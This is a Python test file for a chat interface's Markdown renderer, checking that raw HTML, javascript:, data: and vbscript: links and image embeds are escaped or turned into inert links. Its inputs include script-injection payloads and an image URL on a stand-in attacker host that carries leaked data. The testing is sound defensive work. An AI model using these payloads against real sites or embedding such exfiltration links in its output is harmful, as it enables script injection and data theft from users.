"""The web chat's Markdown rendering: formatting kept, nothing that could run or load."""

from __future__ import annotations

from channels.local.markup import to_html


def test_markdown_becomes_html() -> None:
    html = to_html("**bold** and `code`\n\n1. one\n2. two\n\n```\nx < 1\n```")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert "<ol>" in html and "<li>two</li>" in html
    assert "<pre><code>x &lt; 1\n</code></pre>" in html


def test_raw_html_from_the_model_is_shown_as_text() -> None:
    html = to_html('<script>alert(1)</script> <b onclick="x()">hi</b>')
    assert "<script" not in html and "<b " not in html
    assert "&lt;script&gt;" in html


def test_links_keep_only_web_and_mail_schemes_and_open_apart() -> None:
    html = to_html(
        "[a](https://example.com) [b](mailto:x@example.com) [c](javascript:alert(1)) "
        "[d](JaVaScRiPt:alert(1)) [e](data:text/html,x) [f](vbscript:x) <javascript:alert(1)>"
    )
    assert html.count("<a ") == 2
    assert 'href="https://example.com" target="_blank" rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:x@example.com"' in html
    assert 'href="javascript' not in html.lower() and 'href="data' not in html


def test_images_stay_links_so_the_browser_never_fetches_them() -> None:
    html = to_html("![secret](https://evil.example/?q=leak)")
    assert "<img" not in html
    assert '<a href="https://evil.example/?q=leak"' in html
